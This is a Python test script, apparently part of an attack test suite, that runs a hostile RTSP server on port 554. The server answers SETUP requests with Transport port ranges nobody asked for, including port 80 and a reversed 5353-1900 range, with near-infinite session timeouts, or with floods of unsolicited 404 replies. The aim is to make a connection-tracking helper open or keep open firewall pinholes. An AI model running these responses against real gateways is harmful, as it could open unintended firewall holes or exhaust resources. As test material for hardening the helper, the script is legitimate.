"""An RTSP server that a box was lured to: it answers other ports than were asked for, and for ever.

It hopes that the helper opens what the answer names, or keeps it open longer than anybody lives. ``kind`` is
``wide`` (5353-1900 for one port), ``more`` (four for one), ``low`` (80), ``long`` (a timeout of 999999999 s),
``unasked`` (as many answers of 404 as ``count`` says that nobody asked for). A ``plain`` one is honest:
it is there for attacks under which the provider's own server would suffer before the helper does.
"""

from __future__ import annotations

import contextlib
import socket
import threading
import time

from tests.attacks import wire
from tests.attacks.packet import lines

PORTS = {"wide": "5353-1900", "more": "27410-27413", "low": "80", "long": "", "other": "27420"}


def attack(
    _wire: wire.Wire,
    address: str = "172.26.83.67",
    kind: str = "wide",
    count: int = 0,
    rate: float = 20000.0,
    seconds: float = 10.0,
) -> int:
    listener = socket.create_server((address, 554), backlog=256)
    print("ready", flush=True)
    listener.settimeout(seconds)
    end = time.monotonic() + seconds
    with contextlib.suppress(TimeoutError):
        while time.monotonic() < end:
            connection, _ = listener.accept()
            threading.Thread(target=_serve, args=(connection, kind, count, rate), daemon=True).start()
    return 0


def _serve(connection: socket.socket, kind: str, count: int, rate: float) -> None:
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    buffer = b""
    with contextlib.suppress(OSError, ValueError):
        while data := connection.recv(1 << 16):
            buffer += data
            while b"\r\n\r\n" in buffer:
                head, _, buffer = buffer.partition(b"\r\n\r\n")
                connection.sendall(_answer(head.decode("latin-1"), kind))
                if kind == "unasked":
                    for number in wire.pace(rate / 50, count / rate):
                        unasked = lines("RTSP/1.0 404 Not Found", f"CSeq: {900 + number}")
                        connection.sendall(unasked * 50)


def _answer(head: str, kind: str) -> bytes:
    fields = dict(line.split(": ", 1) for line in head.split("\r\n")[1:] if ": " in line)
    asked = fields.get("Transport", "")
    ports = PORTS.get(kind, "")
    if ports and "client_port=" in asked:
        asked = asked.partition("client_port=")[0] + f"client_port={ports}"
    return lines(
        "RTSP/1.0 200 OK",
        f"CSeq: {fields.get('CSeq', '1')}",
        "Session: plain;timeout=60" if kind == "plain" else "Session: hostile;timeout=999999999",
        f"Transport: {asked}",
    )


if __name__ == "__main__":
    wire.run(attack)
